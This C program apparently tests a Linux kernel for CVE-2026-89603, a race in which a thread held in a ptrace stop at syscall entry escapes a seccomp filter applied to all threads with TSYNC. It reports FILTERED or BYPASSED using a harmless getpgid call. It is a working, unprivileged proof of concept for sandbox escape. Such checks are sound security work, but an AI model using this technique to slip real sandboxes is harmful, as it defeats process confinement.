// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Is a syscall filtered whose thread was in a ptrace stop at its entry while
 * another thread installed a filter for all of them (SECCOMP_FILTER_FLAG_TSYNC)?
 * CVE-2026-89603: the entry code went on with the work flags it had read before
 * the stop. Prints FILTERED or BYPASSED; needs no privilege.
 */
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

struct shared {
	volatile int caller_tid;	/* the thread whose syscall is watched */
	volatile int call_now;
	volatile int install_now;
	volatile int installed;		/* 1 done, -1 failed */
	volatile int result;		/* errno of the syscall + 1 */
};

static struct shared *shared;

static void *caller(void *unused)
{
	(void)unused;
	shared->caller_tid = syscall(SYS_gettid);
	while (!shared->call_now)
		;
	errno = 0;
	syscall(SYS_getpgid, 0);
	shared->result = errno + 1;
	return NULL;
}

static int deny_getpgid(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getpgid, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { sizeof(code) / sizeof(code[0]), code };

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, &program);
}

static void target(void)
{
	pthread_t thread;

	pthread_create(&thread, NULL, caller, NULL);
	while (!shared->install_now)
		;
	shared->installed = deny_getpgid() ? -1 : 1;
	pthread_join(thread, NULL);
	_exit(0);
}

static void die(const char *what)
{
	perror(what);
	exit(2);
}

int main(void)
{
	int status, tries;

	alarm(30);
	shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED)
		die("mmap");
	if (!fork())
		target();
	while (!shared->caller_tid)
		usleep(1000);
	if (ptrace(PTRACE_ATTACH, shared->caller_tid, 0, 0))
		die("PTRACE_ATTACH");
	waitpid(shared->caller_tid, &status, __WALL);
	ptrace(PTRACE_SETOPTIONS, shared->caller_tid, 0, PTRACE_O_TRACESYSGOOD);
	shared->call_now = 1;
	ptrace(PTRACE_SYSCALL, shared->caller_tid, 0, 0);
	waitpid(shared->caller_tid, &status, __WALL);	/* the stop at the entry of getpgid() */
	shared->install_now = 1;
	while (!shared->installed)
		usleep(1000);
	if (shared->installed < 0)
		die("seccomp");
	ptrace(PTRACE_DETACH, shared->caller_tid, 0, 0);
	for (tries = 0; tries < 5000 && !shared->result; tries++)
		usleep(1000);
	puts(shared->result == EPERM + 1 ? "FILTERED" : "BYPASSED");
	return 0;
}
